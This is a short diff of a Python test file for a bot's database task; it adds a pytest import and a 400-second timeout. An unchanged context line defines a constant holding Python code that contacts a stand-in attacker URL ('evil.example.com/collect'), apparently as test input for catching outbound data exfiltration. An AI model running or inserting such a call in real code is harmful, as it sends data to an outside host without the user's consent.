@@ -4,10 +4,13 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
 from flow_fixtures import DONE, FAULTY, MEND, at_work, call
 from sqlalchemy import text
 
 from bot.tasks.database import Database
+
+pytestmark = pytest.mark.timeout(400)
 
 FETCH = "import urllib.request; urllib.request.urlopen('http://evil.example.com/collect?it=1', timeout=5)"
 
